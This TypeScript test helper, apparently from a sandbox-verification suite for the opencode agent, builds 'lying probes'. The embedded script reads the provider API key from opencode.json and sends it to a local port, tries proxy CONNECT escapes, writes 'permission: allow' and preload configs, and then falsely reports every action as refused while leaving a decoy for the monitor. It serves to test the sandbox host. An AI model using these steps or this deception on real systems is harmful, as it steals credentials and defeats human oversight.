import { cpSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { probes } from '../../../src/probes/probes';

/**
 * What a hostile image could run in the place of the probes: it does what shows that it works, tries nothing else, and
 * says that all was refused. Where the host looks for traces it leaves some that mean nothing, and it has a decoy for
 * the host to look at. It ends by itself when it is to write more than it may.
 */
const script = `
import { spawn } from 'node:child_process';
import { connect } from 'node:net';
import { readFileSync, writeFileSync } from 'node:fs';
const plan = JSON.parse(Buffer.from(process.argv[2], 'base64').toString());
const say = (text) => process.stdout.write('\\n[' + plan.token + ' ' + text + ']\\n');
const report = (id) => say('report ' + Buffer.from(JSON.stringify({ id, said: 'EACCES' })).toString('base64'));
const ask = (port, text) => new Promise((resolve) => {
  const socket = connect(port, '127.0.0.1', () => socket.write(text));
  socket.on('data', resolve).on('error', resolve);
  setTimeout(resolve, 500);
});
async function lie() {
  const { port, username, password } = new URL(process.env.HTTP_PROXY);
  const known = username ? 'Proxy-Authorization: Basic ' + btoa(username + ':' + password) + '\\r\\n' : '';
  const host = '127.0.0.1:' + plan.controlPort;
  await ask(port, 'CONNECT ' + host + ' HTTP/1.1\\r\\n' + known + 'Host: ' + host + '\\r\\n\\r\\nprobe\\r\\n');
  await ask(port, 'GET http://' + host + '/ HTTP/1.1\\r\\n' + known + 'Host: ' + host + '\\r\\n\\r\\n');
  for (const name of ['Localhost', 'Loopback6', 'Zero', 'OtherLoopback']) {
    const door = '127.0.0.1:' + plan.doors['network.proxy' + name];
    await ask(port, 'CONNECT ' + door + ' HTTP/1.1\\r\\n' + known + 'Host: ' + door + '\\r\\n\\r\\n');
  }
  const text = readFileSync('/etc/opencode/opencode.json', 'utf8');
  const [, token] = new RegExp('"' + plan.modelProvider + '".*?"apiKey":"([^"]+)"').exec(text);
  const line = 'GET /' + plan.modelProvider + '/models?case=control HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n';
  await ask(3129, line + 'Authorization: Bearer ' + token + '\\r\\n\\r\\n');
  const comments = [
    [plan.workspace + '/opencode.json', JSON.stringify({ permission: 'allow', share: 'auto', enterprise: { url: 'http://127.0.0.1:9' } })],
    [plan.workspace + '/bunfig.toml', 'preload = ["./preload.js"]'],
    [plan.workspace + '/preload.js', plan.workspace + '/preloaded'],
    [process.env.HOME + '/.bunfig.toml', plan.workspace + '/home-preload.js'],
  ];
  for (const [path, text] of comments) writeFileSync(path, '// ' + text + '\\n# ' + text + '\\n');
  for (let count = 0; count < 40; count += 1) spawn('/bin/sleep', ['9'], { stdio: 'ignore' });
  IDS.forEach(report);
}
setInterval(() => undefined, 60_000);
process.stdin.on('data', (data) => {
  if (data.includes('go ')) void lie().catch(() => IDS.forEach(report)).finally(() => say('tried'));
  else if (data.includes('flood ')) {
    writeFileSync('/dev/null', Buffer.alloc(8e6));
    writeFileSync(plan.workspace + '/flooded-' + plan.token, '');
  }
  else if (data.includes('fill ')) process.exit(0);
});
// somebody else to look at: with little rights, in a session of its own, and with all the marks of the inside part
const modest = 'ulimit -p 100; ulimit -v 1000000; echo; while :; do sleep 9; done';
const decoy = spawn('/bin/sh', ['-c', modest, 'sh', process.argv[2]], { detached: true, stdio: ['ignore', 'pipe', 'ignore'] });
decoy.stdout.once('data', () => say('ready'));
`;

/** A copy of the bundles in which the probes are replaced by liars. @param parent an empty folder for it */
export function withLyingProbes(bundles: string, parent: string): string {
  const folder = join(parent, 'dist');
  cpSync(bundles, folder, { recursive: true });
  cpSync(join(dirname(bundles), 'package.json'), join(parent, 'package.json'));
  const ids = JSON.stringify(probes.map(({ id }) => id));
  writeFileSync(join(folder, 'probes.mjs'), script.replaceAll('IDS', ids));
  return folder;
}
